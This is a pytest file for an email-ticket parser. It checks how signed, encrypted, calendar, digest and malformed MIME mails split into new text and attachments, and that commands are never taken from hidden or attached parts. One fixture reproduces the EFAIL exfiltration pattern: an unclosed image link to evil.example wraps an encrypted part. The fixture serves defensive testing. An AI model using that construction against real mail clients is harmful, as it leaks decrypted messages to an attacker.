"""What is text, what is a file, and what is neither, in every form that a mail can have."""

import pytest

from mailticket.mail.parse import parse

TEXT = "Content-Type: text/plain\r\n\r\nHello"
CALENDAR = "Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nEND:VCALENDAR"
INNER = "Content-Type: message/rfc822\r\n\r\nFrom: c@d.example\r\nSubject: inner\r\n\r\n#close"


def multipart(kind: str, *parts: str, boundary: str = "b") -> str:
    inside = "".join(f"--{boundary}\r\n{part}\r\n" for part in parts)
    return f'Content-Type: multipart/{kind}; boundary="{boundary}"\r\n\r\n{inside}--{boundary}--'


def single(kind: str, body: str, *fields: str) -> str:
    return "\r\n".join([f"Content-Type: {kind}", *fields, "", body])


PGP = "-----BEGIN PGP {0}-----\r\nx\r\n-----END PGP {0}-----"
P7M = single("application/pkcs7-mime; name=smime.p7m", "QUJD", "Content-Transfer-Encoding: base64")
SIGNED = multipart("signed", TEXT, single("application/pgp-signature", "x"), boundary="c")

#: Form → its mail below From, its new words, the names of its files.
FORMS = {
    "S/MIME, signed": (multipart("signed", TEXT, single("application/pkcs7-signature; name=smime.p7s", "x")), "Hello", ["smime.p7s"]),
    "PGP/MIME, signed": (multipart("signed", TEXT, single("application/pgp-signature; name=signature.asc", PGP.format("SIGNATURE"))), "Hello", ["signature.asc"]),
    "S/MIME, encrypted": (P7M, "", ["smime.p7m"]),
    "PGP/MIME, encrypted": (multipart("encrypted", single("application/pgp-encrypted", "Version: 1"), single("application/octet-stream; name=encrypted.asc", PGP.format("MESSAGE"))), "", ["", "encrypted.asc"]),
    "PGP, encrypted": (single("text/plain", PGP.format("MESSAGE")), PGP.format("MESSAGE").replace("\r", ""), []),
    "PGP, clear-signed": (single("text/plain", f"-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\nHello\r\n- -- \r\nAnne\r\n{PGP.format('SIGNATURE')}"), "Hello", []),
    "something unsigned beside something signed": (multipart("mixed", SIGNED, single("text/plain", "#close")), "Hello", [""]),
    "EFAIL": (multipart("mixed", single("text/html", '<img src="http://evil.example/'), P7M, single("text/html", '">')), "", ["smime.p7m"]),
    "invitation": (multipart("alternative", TEXT, CALENDAR), "Hello", [""]),
    "invitation alone": (CALENDAR, "", [""]),
    "nameless picture": (multipart("mixed", TEXT, single("image/png", "x")), "Hello", [""]),
    "nameless bytes": (multipart("mixed", TEXT, single("application/octet-stream", "x")), "Hello", [""]),
    "attached mail": (multipart("mixed", TEXT, INNER), "Hello", [""]),
    "digest": (multipart("digest", "\r\nFrom: c@d.example\r\n\r\n#close"), "", [""]),
    "named text": (multipart("mixed", TEXT, single("text/plain; name=log.txt", "#close")), "Hello", ["log.txt"]),
    "text that is a file": (multipart("mixed", TEXT, single("text/plain", "#close", "Content-Disposition: attachment")), "Hello", [""]),
    "text, picture, text": (multipart("mixed", TEXT, single("image/png", "x"), single("text/plain", "#close")), "Hello", [""]),
    "hidden nodes": (single("text/html", "<p>Hello</p><div style='display:none'>#close</div><b hidden>#take</b><i style='font-size:0'>#spam</i>"), "Hello", []),
    "uuencoded": (single("text/plain", "Hello\r\n\r\nbegin 644 a.txt\r\n#0V%T\r\n`\r\nend"), "Hello", ["a.txt"]),
    "a begin line in prose": (single("text/plain", "begin 644 people\r\nand more"), "begin 644 people\nand more", []),
    "flowed": (single("text/plain; format=flowed", "Hel \r\nlo\r\n> old \r\n> words"), "Hel lo", []),
    "flowed, DelSp": (single("text/plain; format=flowed; delsp=yes", "Hel \r\nlo"), "Hello", []),
    "flowed, stuffed": (single("text/plain; format=flowed", " >Hello"), ">Hello", []),
    "NUL": (single("text/plain", "Hel\0lo"), "Hello", []),
    "broken quoted-printable": (single("text/plain", "Hel=\r\nlo =ZZ =", "Content-Transfer-Encoding: quoted-printable"), "Hello =ZZ", []),
    "a footer below base64": (single("text/plain", "SGVsbG8\r\n-- \r\na list's footer", "Content-Transfer-Encoding: base64"), "Hello", []),
    "no closing boundary": (multipart("mixed", TEXT).removesuffix("--b--"), "Hello", []),
    "no boundary": (single("multipart/mixed", "Hello"), "Hello", []),
}  # fmt: skip


@pytest.mark.parametrize("form", FORMS)
def test_what_is_said_and_what_is_a_file(form):
    body, words, names = FORMS[form]
    read = parse(f"From: a@b.example\r\nSubject: x\r\n{body}\r\n".encode())

    assert (words, names) == (read.new_words, [file.name for file in read.attachments])


@pytest.mark.parametrize("form", FORMS)
def test_no_command_is_read_from_anything_but_the_new_words(form):
    """Trust.md 2.3, S13, S19: neither from attached mail nor files, hidden nodes, or what stands beside a signature."""
    body, _, _ = FORMS[form]
    read = parse(f"From: a@b.example\r\nSubject: x\r\n{body}\r\n".encode())

    assert "#" not in read.new_words + read.html_new_words


@pytest.mark.parametrize("kind", ["plain", "html"])
@pytest.mark.parametrize("around", [None, "mixed", "alternative"])
def test_the_only_text_is_shown_though_a_program_gave_it_a_name(kind, around):
    """What a customer wrote into such a program is the request; it stays a file too, and is never read for commands."""
    named = single(f"text/{kind}; name=body.txt", "It burns.", "Content-Disposition: inline")
    body = multipart(around, named, single("image/png; name=a.png", "x")) if around else named
    read = parse(f"From: a@b.example\r\nSubject: x\r\n{body}\r\n".encode())

    assert ("It burns.", "") == (read.words, read.new_words)
    assert "body.txt" == read.attachments[0].name


def test_a_mere_attachment_is_no_text_of_the_mail():
    named = single("text/plain; name=log.txt", "It burns.", "Content-Disposition: attachment")

    assert "" == parse(f"From: a@b.example\r\nSubject: x\r\n{named}\r\n".encode()).words
